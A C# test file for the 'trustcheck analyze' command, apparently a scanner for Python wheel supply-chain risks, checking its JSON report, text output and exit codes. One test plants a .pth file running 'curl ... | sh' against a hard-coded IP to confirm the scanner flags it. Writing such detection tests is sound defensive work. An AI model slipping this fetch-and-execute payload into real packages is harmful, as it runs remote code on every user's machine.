using System.Text.Json;
using TrustCheck.TestKit;
using TrustCheck.TestKit.Artifacts;

namespace TrustCheck.Cli.Tests.Analyze;

/// <summary><c>trustcheck analyze</c> through the command line: the contract's JSON shape and exit codes 0, 3 and 4.</summary>
public sealed class AnalyzeCommandTests : IDisposable
{
    private readonly TemporaryDirectory _scratch = new();

    private static string Real(string file) => SharedData.PathOf("data/wheels/" + file);

    [Fact]
    public async Task Analyze_RealWheelAgainstItsPreviousRelease_WritesTheContractJsonAndExits0()
    {
        var run = await CliRun.InvokeAsync("analyze", Real("pip-25.0.1-py3-none-any.whl"), "--baseline", Real("pip-24.2-py3-none-any.whl"), "--format", "json");

        Assert.Equal(0, run.ExitCode);
        using var report = JsonDocument.Parse(run.Output);
        Assert.Equal("1.0", report.RootElement.GetProperty("schemaVersion").GetString());
        var file = Assert.Single(report.RootElement.GetProperty("files").EnumerateArray());
        Assert.Equal("pip-25.0.1-py3-none-any.whl", file.GetProperty("filename").GetString());
        Assert.Equal("8d42190795ae310f4b54acc5ab47933368b0531c2e65ae8c7e76bc2a755771ea", file.GetProperty("sha256").GetString());
        Assert.Equal("wheel", file.GetProperty("kind").GetString());
        Assert.Equal("pip-24.2-py3-none-any.whl", file.GetProperty("baseline").GetString());
        var findings = file.GetProperty("findings").EnumerateArray().ToList();
        Assert.NotEmpty(findings);
        // pip 25.0.1 keeps what 24.2 had (info); a vendored packaging module new to eval() inside a function is low.
        Assert.All(findings, f => Assert.True(f.GetProperty("severity").GetString() is "info" or "low"));
        Assert.All(findings.Where(f => f.GetProperty("code").GetString() != "TC10401"), f => Assert.Equal("unchanged", f.GetProperty("evidence").GetProperty("novelty").GetString()));
    }

    [Fact]
    public async Task Analyze_WithoutBaseline_HasANullBaselineAndText()
    {
        var run = await CliRun.InvokeAsync("analyze", Real("wheel-0.43.0-py3-none-any.whl"), Real("setuptools-65.5.0-py3-none-any.whl"));

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("wheel-0.43.0-py3-none-any.whl (wheel, sha256 55c570405f142630c6b9f72fe09d9b67cf1477fcf543ae5b8dcb1f5b7377da81): 1 finding(s), none high", run.Output, StringComparison.Ordinal);
        Assert.Contains("LOW      TC10209  Entry points another tool loads by itself: [distutils.commands] bdist_wheel = wheel.bdist_wheel:bdist_wheel", run.Output, StringComparison.Ordinal);
        Assert.Contains("MEDIUM   TC10201  distutils-precedence.pth runs code at every interpreter start", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Analyze_PoisonedRelease_Exits4()
    {
        var poisoned = _scratch.File("wheel-0.43.0-py3-none-any.whl", PoisonedBuild.Wheel(File.ReadAllBytes(Real("wheel-0.43.0-py3-none-any.whl")), (_, bytes) => bytes,
            ("wheel-init.pth", "import os;os.system('curl -s http://45.61.136.2/i | sh')\n"u8.ToArray())));

        var run = await CliRun.InvokeAsync("analyze", poisoned, "--baseline", Real("wheel-0.40.0-py3-none-any.whl"), "--format", "json");

        Assert.Equal(4, run.ExitCode);
        using var report = JsonDocument.Parse(run.Output);
        var codes = report.RootElement.GetProperty("files")[0].GetProperty("findings").EnumerateArray().Select(f => (f.GetProperty("code").GetString(), f.GetProperty("severity").GetString())).ToList();
        Assert.Contains(("TC10201", "high"), codes);
        Assert.Contains(("TC10304", "critical"), codes);
    }

    [Fact]
    public async Task Analyze_TruncatedArchive_ReportsItAndExits3()
    {
        var bytes = File.ReadAllBytes(Real("wheel-0.43.0-py3-none-any.whl"));
        var truncated = _scratch.File("wheel-0.43.0-py3-none-any.whl", bytes.AsSpan(0, bytes.Length / 3).ToArray());

        var run = await CliRun.InvokeAsync("analyze", truncated, "--format", "json");

        Assert.Equal(3, run.ExitCode);
        Assert.Contains("TC10001", run.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("notes.txt", 3)]
    [InlineData("missing-1.0-py3-none-any.whl", 2)]
    public async Task Analyze_FileThatIsNotADistributionOrMissing_ExitsWithTheReason(string name, int exitCode)
    {
        // A file that is not a distribution is invalid data (3); a path that does not exist is a usage error (2), as for verify.
        var path = name == "notes.txt" ? _scratch.File(name, "hello"u8.ToArray()) : Path.Combine(_scratch.Path, name);

        var run = await CliRun.InvokeAsync("analyze", path);

        Assert.Equal(exitCode, run.ExitCode);
        Assert.Contains(name, run.Error, StringComparison.Ordinal);
        Assert.Empty(run.Output);
    }

    public void Dispose() => _scratch.Dispose();
}
